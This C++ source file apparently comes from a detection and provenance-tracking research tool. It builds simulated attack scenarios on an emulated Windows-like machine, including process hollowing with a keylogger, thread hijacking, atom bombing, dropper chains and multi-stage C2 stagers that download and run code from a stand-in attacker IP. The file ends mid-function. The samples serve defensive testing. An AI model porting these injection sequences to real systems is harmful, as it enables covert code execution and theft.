#include "attacks/scenarios.h"

#include "os/runtime.h"

namespace faros::attacks {

namespace {

Result<void> install_image(os::Machine& m, const std::string& path,
                           const Result<os::Image>& img) {
  if (!img.ok()) return Err<void>(img.error().message);
  m.kernel().vfs().create(path, img.value().serialize());
  return Ok();
}

constexpr const char* kSampleDir = "C:/Users/victim/";

}  // namespace

Result<RecordedRun> record_run(Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  auto r = m.boot();
  if (!r.ok()) return Err<RecordedRun>(r.error().message);
  auto source = sc.make_source();
  if (source) m.set_event_source(source.get());
  r = sc.setup(m);
  if (!r.ok()) return Err<RecordedRun>(r.error().message);

  RecordedRun out;
  out.stats = m.run(sc.budget());
  out.log = m.recording();
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Result<ReplayedRun> replay_run(Scenario& sc, const vm::ReplayLog& log,
                               vm::ExecHooks* cpu_plugin,
                               const std::vector<osi::GuestMonitor*>& monitors,
                               const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (cpu_plugin) m.attach_cpu_plugin(cpu_plugin);
  for (auto* mon : monitors) m.add_monitor(mon);
  auto r = m.boot();
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  r = sc.setup(m);
  if (!r.ok()) return Err<ReplayedRun>(r.error().message);
  m.load_replay(log);

  ReplayedRun out;
  out.stats = m.run(sc.budget());
  out.console = m.kernel().console();
  out.traps = m.kernel().trap_log();
  return out;
}

Result<AnalyzedRun> analyze(Scenario& sc, const core::Options& opts,
                            const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  core::FarosEngine engine(m.kernel(), opts);
  m.attach_cpu_plugin(&engine);
  m.add_monitor(&engine);
  auto r = m.boot();
  if (!r.ok()) return Err<AnalyzedRun>(r.error().message);
  auto source = sc.make_source();
  if (source) m.set_event_source(source.get());
  r = sc.setup(m);
  if (!r.ok()) return Err<AnalyzedRun>(r.error().message);

  AnalyzedRun out;
  out.recorded.stats = m.run(sc.budget());
  out.recorded.log = m.recording();
  out.recorded.console = m.kernel().console();
  out.recorded.traps = m.kernel().trap_log();
  out.findings = engine.findings();
  for (const core::Finding& f : out.findings) {
    out.fetch_chains.push_back(
        core::render_chain(engine.store(), engine.maps(), f.fetch_prov));
  }
  out.flagged = engine.flagged();
  out.report = engine.report();
  out.engine_stats = engine.stats();
  out.prov_lists = engine.store().size();
  out.tainted_bytes = engine.shadow().tainted_bytes();
  return out;
}

Result<std::vector<ExtractedImage>> extract_images(
    Scenario& sc, const os::MachineConfig& cfg) {
  os::Machine m(cfg);
  if (auto b = m.boot(); !b.ok()) {
    return Err<std::vector<ExtractedImage>>("boot: " + b.error().message);
  }
  if (auto s = sc.setup(m); !s.ok()) {
    return Err<std::vector<ExtractedImage>>("setup: " + s.error().message);
  }
  std::vector<ExtractedImage> out;
  // Vfs::list() is path-sorted, which makes the extracted set (and every
  // downstream static report) deterministic.
  for (const std::string& path : m.kernel().vfs().list()) {
    auto data = m.kernel().vfs().read_all(path);
    if (!data.ok()) continue;
    auto img = os::Image::deserialize(data.value());
    if (!img.ok()) continue;  // documents, payload blobs, ... — not images
    out.push_back(ExtractedImage{path, std::move(img).take()});
  }
  return out;
}

// ---------------------------------------------------------------------------
// Reflective DLL injection.

ReflectiveDllScenario::ReflectiveDllScenario(ReflectiveVariant variant,
                                             bool transient)
    : variant_(variant), transient_(transient) {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter:
      victim_ = "notepad.exe";
      victim_path_ = paths::kNotepad;
      break;
    case ReflectiveVariant::kBypassUac:
      victim_ = "firefox.exe";
      victim_path_ = paths::kFirefox;
      break;
    case ReflectiveVariant::kReverseTcpDns:
      victim_ = "inject_client.exe";  // shellcode and target coincide
      break;
  }
}

std::string ReflectiveDllScenario::name() const {
  switch (variant_) {
    case ReflectiveVariant::kMeterpreter: return "reflective_dll_inject";
    case ReflectiveVariant::kReverseTcpDns: return "reverse_tcp_dns";
    case ReflectiveVariant::kBypassUac: return "bypassuac_injection";
  }
  return "reflective";
}

Result<void> ReflectiveDllScenario::setup(os::Machine& m) {
  if (!victim_path_.empty()) {
    auto r = install_image(m, victim_path_, build_idle_program(victim_));
    if (!r.ok()) return r;
  }
  InjectClientSpec spec;
  spec.target_name =
      variant_ == ReflectiveVariant::kReverseTcpDns ? "" : victim_;
  if (variant_ == ReflectiveVariant::kReverseTcpDns) {
    // The reverse_tcp_dns stager looks its C2 up by name.
    spec.dns_name = "c2.reverse-tcp.dns";
    m.kernel().add_dns(spec.dns_name, kAttackerIp);
  }
  auto r = install_image(m, std::string(kSampleDir) + "inject_client.exe",
                         build_inject_client(spec));
  if (!r.ok()) return r;

  if (!victim_path_.empty()) {
    auto pid = m.kernel().spawn(victim_path_);
    if (!pid.ok()) return Err<void>(pid.error().message);
  }
  auto pid =
      m.kernel().spawn(std::string(kSampleDir) + "inject_client.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> ReflectiveDllScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "reflective payload in " + victim_name();
  spec.erase_self = transient_;
  spec.ending = variant_ == ReflectiveVariant::kReverseTcpDns
                    ? PayloadEnding::kExit
                    : PayloadEnding::kLoopForever;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Process hollowing.

Result<void> HollowingScenario::setup(os::Machine& m) {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kKeylogger;
  pspec.message = "svchost hollowed";
  pspec.erase_self = transient_;
  pspec.ending = PayloadEnding::kLoopForever;
  pspec.keystrokes = 3;
  auto payload = build_payload(pspec);
  if (!payload.ok()) return Err<void>(payload.error().message);

  auto r = install_image(m, paths::kSvchost, build_idle_program("svchost.exe"));
  if (!r.ok()) return r;
  r = install_image(m, std::string(kSampleDir) + "invoice.exe",
                    build_hollow_loader(payload.value(), paths::kSvchost));
  if (!r.ok()) return r;

  // The user "opens the attachment".
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "invoice.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);

  // Keystrokes for the keylogger to steal.
  for (int i = 0; i < 3; ++i) {
    std::string keys = "hunter" + std::to_string(i) + "\n";
    m.inject_device(static_cast<u32>(os::DeviceId::kKeyboard),
                    ByteSpan(reinterpret_cast<const u8*>(keys.data()),
                             keys.size()));
  }
  return Ok();
}

// ---------------------------------------------------------------------------
// RAT code/process injection.

Result<void> RatInjectionScenario::setup(os::Machine& m) {
  auto r = install_image(m, paths::kExplorer, build_idle_program("explorer.exe"));
  if (!r.ok()) return r;
  r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  RatSpec spec;
  spec.name = rat_name_ + ".exe";
  r = install_image(m, std::string(kSampleDir) + spec.name,
                    build_rat_program(spec));
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
                          Bytes{'t', 'o', 'p', '-', 's', 'e', 'c', 'r', 'e',
                                't', '-', 'd', 'a', 't', 'a'});

  auto pid = m.kernel().spawn(paths::kExplorer);
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + spec.name);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> RatInjectionScenario::make_source() {
  PayloadSpec pspec;
  pspec.action = PayloadAction::kMessageBox;
  pspec.message = rat_name_ + " payload in explorer.exe";
  pspec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(pspec);

  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) {
    Bytes inject_cmd;
    inject_cmd.push_back('I');
    inject_cmd.insert(inject_cmd.end(), payload.value().begin(),
                      payload.value().end());
    c2->queue_response(std::move(inject_cmd));
  }
  c2->queue_response(Bytes{'S'});
  c2->queue_response(Bytes{'U'});
  c2->queue_response(Bytes{'Q'});
  return c2;
}

// ---------------------------------------------------------------------------
// Multi-stage dropper chain.

Result<void> DropperChainScenario::setup(os::Machine& m) {
  using vm::Reg;
  // Stage 1: download stage 2, drop it to disk, run it.
  os::ImageBuilder ib("dropper.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 8192, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 8192);
  a.mov(Reg::R8, Reg::R0);  // stage-2 size
  a.movi_label(Reg::R1, "drop_path");
  emit_sys(a, os::Sys::kNtCreateFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R9);
  a.mov(Reg::R3, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteFile);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtCloseHandle);
  a.movi_label(Reg::R1, "drop_path");
  a.movi(Reg::R2, 0);
  emit_sys(a, os::Sys::kNtCreateProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("drop_path");
  a.data_str("C:/Temp/update.exe");
  auto img = ib.build();
  if (!img.ok()) return Err<void>(img.error().message);
  m.kernel().vfs().create(std::string(kSampleDir) + "dropper.exe",
                          img.value().serialize());
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "dropper.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> DropperChainScenario::make_source() {
  using vm::Reg;
  // Stage 2: a full SX32 executable that resolves MessageBoxA by walking
  // the export tables inline, announces itself, then idles.
  os::ImageBuilder ib("update.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_export_walk(a, "s2", fnv1a32(os::sym::kUser32),
                   fnv1a32(os::sym::kMessageBox));
  a.mov(Reg::R9, Reg::R0);
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 16);
  a.callr(Reg::R9);
  a.label("spin");
  emit_sys(a, os::Sys::kNtYield);
  a.jmp("spin");
  a.align(8);
  a.label("msg");
  a.data_str("stage two alive!", false);
  auto img = ib.build();

  auto c2 = std::make_unique<C2Server>();
  if (img.ok()) c2->queue_response(img.value().serialize());
  return c2;
}

// ---------------------------------------------------------------------------
// IPC relay through a loopback socket.

Result<void> IpcRelayScenario::setup(os::Machine& m) {
  using vm::Reg;
  constexpr u16 kServicePort = 9000;

  // Backend: binds the service port, receives a code blob, runs it.
  {
    os::ImageBuilder ib("backend.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.movi(Reg::R2, kServicePort);
    emit_sys(a, os::Sys::kNtBind);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.movi(Reg::R4, 0);
    a.label("cp");
    a.cmp(Reg::R4, Reg::R8);
    a.bgeu("cpd");
    a.add(Reg::R5, Reg::R9, Reg::R4);
    a.ld8(Reg::R7, Reg::R5, 0);
    a.add(Reg::R5, Reg::R6, Reg::R4);
    a.st8(Reg::R5, 0, Reg::R7);
    a.addi(Reg::R4, Reg::R4, 1);
    a.jmp("cp");
    a.label("cpd");
    a.callr(Reg::R6);
    emit_exit(a, 0);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "backend.exe",
                            img.value().serialize());
  }
  // Frontend: downloads the payload, relays it to the backend over
  // loopback.
  {
    os::ImageBuilder ib("frontend.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_connect(a, kAttackerIp, kAttackerPort);
    emit_send_label(a, "req", 3);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    // Loopback connection to the backend service.
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R11, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.movi(Reg::R2, 0);  // placeholder; patched via guest ip below
    // The guest's own IP is not an immediate the program knows; use the
    // kernel-reported value through NtResolveHost("localhost").
    a.movi_label(Reg::R1, "lo");
    emit_sys(a, os::Sys::kNtResolveHost);
    a.mov(Reg::R12, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.mov(Reg::R2, Reg::R12);
    a.movi(Reg::R3, kServicePort);
    emit_sys(a, os::Sys::kNtConnect);
    a.mov(Reg::R1, Reg::R11);
    a.mov(Reg::R2, Reg::R9);
    a.mov(Reg::R3, Reg::R8);
    emit_sys(a, os::Sys::kNtSend);
    emit_exit(a, 0);
    a.align(8);
    a.label("req");
    a.data_str("GET", false);
    a.align(8);
    a.label("lo");
    a.data_str("localhost");
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "frontend.exe",
                            img.value().serialize());
  }
  m.kernel().add_dns("localhost", m.kernel().net().guest_ip());

  auto pid = m.kernel().spawn(std::string(kSampleDir) + "backend.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "frontend.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> IpcRelayScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in backend.exe";
  spec.ending = PayloadEnding::kExit;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Atom bombing.

Result<void> AtomBombingScenario::setup(os::Machine& m) {
  using vm::Reg;
  constexpr u16 kPumpPort = 7777;
  const u32 guest_ip = m.kernel().net().guest_ip();

  // Victim: a "message pump" that waits for a message carrying an atom id,
  // fetches the atom into an executable buffer, and (as the queued "APC")
  // executes it.
  {
    os::ImageBuilder ib("winlogon.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.movi(Reg::R2, kPumpPort);
    emit_sys(a, os::Sys::kNtBind);
    a.movi_label(Reg::R9, "msgbuf");
    emit_recv(a, Reg::R9, 4);  // the "window message": an atom id
    a.ld32(Reg::R8, Reg::R9, 0);
    emit_alloc_self(a, 4096,
                    os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    a.mov(Reg::R1, Reg::R8);
    a.mov(Reg::R2, Reg::R6);
    a.movi(Reg::R3, 4096);
    emit_sys(a, os::Sys::kNtGetAtom);
    a.callr(Reg::R6);
    emit_exit(a, 0);
    a.align(8);
    a.label("msgbuf");
    a.zeros(8);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(paths::kExplorer, img.value().serialize());
  }
  // Attacker: downloads the payload, stages it as a global atom, posts the
  // atom id to the victim's pump.
  {
    os::ImageBuilder ib("atom_bomber.exe", os::kUserImageBase);
    auto& a = ib.asm_();
    a.label("_start");
    emit_connect(a, kAttackerIp, kAttackerPort);
    emit_send_label(a, "req", 3);
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
    a.mov(Reg::R9, Reg::R0);
    emit_recv(a, Reg::R9, 4096);
    a.mov(Reg::R8, Reg::R0);
    // Stage the payload in the atom table.
    a.mov(Reg::R1, Reg::R9);
    a.mov(Reg::R2, Reg::R8);
    emit_sys(a, os::Sys::kNtAddAtom);
    a.movi_label(Reg::R5, "idbuf");
    a.st32(Reg::R5, 0, Reg::R0);
    // Post the atom id to the victim's message pump (loopback).
    emit_sys(a, os::Sys::kNtSocket);
    a.mov(Reg::R11, Reg::R0);
    a.mov(Reg::R1, Reg::R11);
    a.movi(Reg::R2, guest_ip);
    a.movi(Reg::R3, kPumpPort);
    emit_sys(a, os::Sys::kNtConnect);
    a.mov(Reg::R1, Reg::R11);
    a.movi_label(Reg::R2, "idbuf");
    a.movi(Reg::R3, 4);
    emit_sys(a, os::Sys::kNtSend);
    emit_exit(a, 0);
    a.align(8);
    a.label("req");
    a.data_str("GET", false);
    a.align(8);
    a.label("idbuf");
    a.zeros(8);
    auto img = ib.build();
    if (!img.ok()) return Err<void>(img.error().message);
    m.kernel().vfs().create(std::string(kSampleDir) + "atom_bomber.exe",
                            img.value().serialize());
  }

  auto pid = m.kernel().spawn(paths::kExplorer);  // winlogon victim image
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "atom_bomber.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "atom-bombed payload in winlogon.exe";
  spec.ending = PayloadEnding::kExit;
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Multi-stage C2: payload and key from two distinct endpoints.

namespace {

constexpr u16 kKeyServerPort = 5555;
constexpr u8 kStageKey[8] = {0x5a, 0xa5, 0x3c, 0xc3, 0x96, 0x69, 0x0f, 0xf0};

}  // namespace

Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
  using vm::Reg;
  os::ImageBuilder ib("stager.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  // Stage 1: encoded payload from the primary endpoint.
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);
  // Stage 2: the 8-byte XOR key from the second endpoint.
  emit_connect(a, kAttackerIp, kKeyServerPort);
  emit_send_label(a, "key", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R12, Reg::R0);
  emit_recv(a, Reg::R12, 8);
  // Decode into fresh RWX memory: every written byte is enc ^ key, so its
  // provenance is the union of both netflows.
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
  a.mov(Reg::R6, Reg::R0);
  a.movi(Reg::R4, 0);
  a.label("dec");
  a.cmp(Reg::R4, Reg::R8);
  a.bgeu("decd");
  a.add(Reg::R5, Reg::R9, Reg::R4);
  a.ld8(Reg::R7, Reg::R5, 0);
  a.andi(Reg::R2, Reg::R4, 7);
  a.add(Reg::R5, Reg::R12, Reg::R2);
  a.ld8(Reg::R3, Reg::R5, 0);
  a.xor_(Reg::R7, Reg::R7, Reg::R3);
  a.add(Reg::R5, Reg::R6, Reg::R4);
  a.st8(Reg::R5, 0, Reg::R7);
  a.addi(Reg::R4, Reg::R4, 1);
  a.jmp("dec");
  a.label("decd");
  a.callr(Reg::R6);  // R9 still holds the stage-1 buffer for the payload
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("key");
  a.data_str("KEY", false);
  auto r = install_image(m, std::string(kSampleDir) + "stager.exe",
                         ib.build());
  if (!r.ok()) return r;
  auto pid = m.kernel().spawn(std::string(kSampleDir) + "stager.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
  using vm::Reg;
  // Tiny position-independent payload: one load from the (still tainted)
  // stage-1 buffer, then return to the stager. That load is the trigger a
  // "fetch distinct-netflows>=2" rule fires on — the *code* doing it was
  // decoded from two flows.
  vm::Assembler pa;
  pa.push(Reg::LR);
  pa.ld8(Reg::R5, Reg::R9, 0);
  pa.pop(Reg::LR);
  pa.ret();
  auto code = pa.assemble(0);

  auto multi = std::make_unique<MultiC2>();
  auto payload_c2 = std::make_unique<C2Server>(kAttackerIp, kAttackerPort);
  if (code.ok()) {
    Bytes enc = code.value();
    for (size_t i = 0; i < enc.size(); ++i) enc[i] ^= kStageKey[i & 7];
    payload_c2->queue_response(std::move(enc));
  }
  auto key_c2 = std::make_unique<C2Server>(kAttackerIp, kKeyServerPort);
  key_c2->queue_response(Bytes(kStageKey, kStageKey + 8));
  multi->add(std::move(payload_c2));
  multi->add(std::move(key_c2));
  return multi;
}

// ---------------------------------------------------------------------------
// Thread hijacking: suspend a *running* victim, redirect its context.

Result<void> ThreadHijackScenario::setup(os::Machine& m) {
  using vm::Reg;
  auto r = install_image(m, "C:/Windows/taskhost.exe",
                         build_idle_program("taskhost.exe"));
  if (!r.ok()) return r;

  // The hijacker: download, then the SetThreadContext sequence — suspend,
  // carve RWX, write across the boundary, redirect, resume. Unlike
  // hollowing there is no child spawn and nothing is unmapped; the victim
  // was already running its own code.
  os::ImageBuilder ib("hijacker.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);  // payload length
  a.movi_label(Reg::R1, "target");
  emit_sys(a, os::Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtSuspendProcess);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.mov(Reg::R4, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, os::Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtResumeProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("target");
  a.data_str("taskhost.exe");
  r = install_image(m, std::string(kSampleDir) + "hijacker.exe", ib.build());
  if (!r.ok()) return r;

  // Victim first: it must already be running when the hijacker suspends it.
  auto pid = m.kernel().spawn("C:/Windows/taskhost.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "hijacker.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "hijacked payload in taskhost.exe";
  spec.ending = PayloadEnding::kLoopForever;  // stays resident at snapshot
  auto payload = build_payload(spec);
  auto c2 = std::make_unique<C2Server>();
  if (payload.ok()) c2->queue_response(payload.value());
  return c2;
}

// ---------------------------------------------------------------------------
// A -> B -> C injection relay.

Result<void> InjectionRelayScenario::setup(os::Machine& m) {
  using vm::Reg;
  auto r = install_image(m, "C:/Windows/relay.exe",
                         build_idle_program("relay.exe"));
  if (!r.ok()) return r;
  r = install_image(m, "C:/Windows/conhost.exe",
                    build_idle_program("conhost.exe"));
  if (!r.ok()) return r;

  // Stage 0: downloads the combined [stub][payload] blob and thread-hijacks
  // the *whole blob* into relay.exe. The stub half then runs inside relay
  // and performs the second hop on its own.
  os::ImageBuilder ib("stage0.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "req", 3);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);  // blob length
  a.movi_label(Reg::R1, "target");
  emit_sys(a, os::Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtSuspendProcess);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.mov(Reg::R4, Reg::R8);
  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, os::Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, os::Sys::kNtResumeProcess);
  emit_exit(a, 0);
  a.align(8);
  a.label("req");
  a.data_str("GET", false);
  a.align(8);
  a.label("target");
  a.data_str("relay.exe");
  r = install_image(m, std::string(kSampleDir) + "stage0.exe", ib.build());
  if (!r.ok()) return r;

  // Both victims must already be running; relay is hijacked by stage0, and
  // conhost by the stub running inside relay.
  auto pid = m.kernel().spawn("C:/Windows/relay.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn("C:/Windows/conhost.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  pid = m.kernel().spawn(std::string(kSampleDir) + "stage0.exe");
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
  using vm::Reg;
  // The final payload (runs in conhost.exe, hop C): an export-walking
  // MessageBox — the one confluence trigger of the whole chain.
  PayloadSpec spec;
  spec.action = PayloadAction::kMessageBox;
  spec.message = "relayed payload in conhost.exe";
  spec.ending = PayloadEnding::kLoopForever;
  auto payload = build_payload(spec);
  if (!payload.ok()) return std::make_unique<C2Server>();

  // The relay stub (runs in relay.exe, hop B): position-independent code
  // that re-injects the payload embedded in its own blob into conhost.exe
  // with the same suspend/write/redirect sequence, then exits. It makes
  // only syscalls plus one tainted LD32 (the embedded length word) and
  // never touches an export table, so hop B itself must NOT flag — the
  // relay shows up in the slice purely through provenance.
  vm::Assembler sa;
  sa.addpc_label(Reg::R9, "payload");
  sa.addpc_label(Reg::R5, "plen");
  sa.ld32(Reg::R8, Reg::R5, 0);
  sa.addpc_label(Reg::R1, "cname");
  emit_sys(sa, os::Sys::kNtOpenProcessByName);
  sa.mov(Reg::R7, Reg::R0);
  sa.mov(Reg::R1, Reg::R7);
  emit_sys(sa, os::Sys::kNtSuspendProcess);
  sa.mov(Reg::R1, Reg::R7);
  sa.movi(Reg::R2, 4096);
  sa.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(sa, os::Sys::kNtAllocateVirtualMemory);
  sa.mov(Reg::R6, Reg::R0);
  sa.mov(Reg::R1, Reg::R7);
  sa.mov(Reg::R2, Reg::R6);
  sa.mov(Reg::R3, Reg::R9);
  sa.mov(Reg::R4, Reg::R8);
  emit_sys(sa, os::Sys::kNtWriteVirtualMemory);
  sa.mov(Reg::R1, Reg::R7);
  sa.mov(Reg::R2, Reg::R6);
  emit_sys(sa, os::Sys::kNtSetEntryPoint);
  sa.mov(Reg::R1, Reg::R7);
  emit_sys(sa, os::Sys::kNtResumeProcess);
  emit_exit(sa, 0);
  sa.align(8);
  sa.label("plen");
  sa.data_u32(static_cast<u32>(payload.value().size()));
  sa.align(8);
  sa.label("cname");
  sa.data_str("conhost.exe");
  sa.align(8);
  sa.label("payload");
  sa.data(ByteSpan(payload.value().data(), payload.value().size()));
  auto blob = sa.assemble(0);

  auto c2 = std::make_unique<C2Server>();
  if (blob.ok()) c2->queue_response(blob.value());
  return c2;
}

// ---------------------------------------------------------------------------
// Table IV behaviour samples.

Result<void> BehaviorScenario::setup(os::Machine& m) {
  auto r = install_image(m, paths::kHelper, build_helper_program());
  if (!r.ok()) return r;
  m.kernel().vfs().create(paths::kSecretDoc,
                          Bytes(48, static_cast<u8>('s')));
  m.kernel().vfs().create(paths::kReportDoc,
                          Bytes(64, static_cast<u8>('r')));

  std::string image_name = sample_name_;
  r = install_image(m, std::string(kSampleDir) + image_name,
                    build_behavior_program(image_name, behaviors_));
  if (!r.ok()) return r;

  for (Behavior b : behaviors_) {
    u32 dev = 0;
    u32 chunks = behavior_device_chunks(b, &dev);
    for (u32 i = 0; i < chunks; ++i) {
      Bytes data(b == Behavior::kKeylogger ? 8 : 32,
                 static_cast<u8>('a' + (i % 26)));
      m.inject_device(dev, data);
    }
  }

  auto pid = m.kernel().spawn(std::string(kSampleDir) + image_name);
  if (!pid.ok()) return Err<void>(pid.error().message);
  return Ok();
}

std::unique_ptr<os::EventSource> BehaviorScenario::make_source() {
  auto c2 = std::make_unique<C2Server>();
  for (Behavior b : behaviors_) {
    for (u32 i = 0; i < behavior_c2_responses(b); ++i) {
      if (b == Behavior::kDownload) {
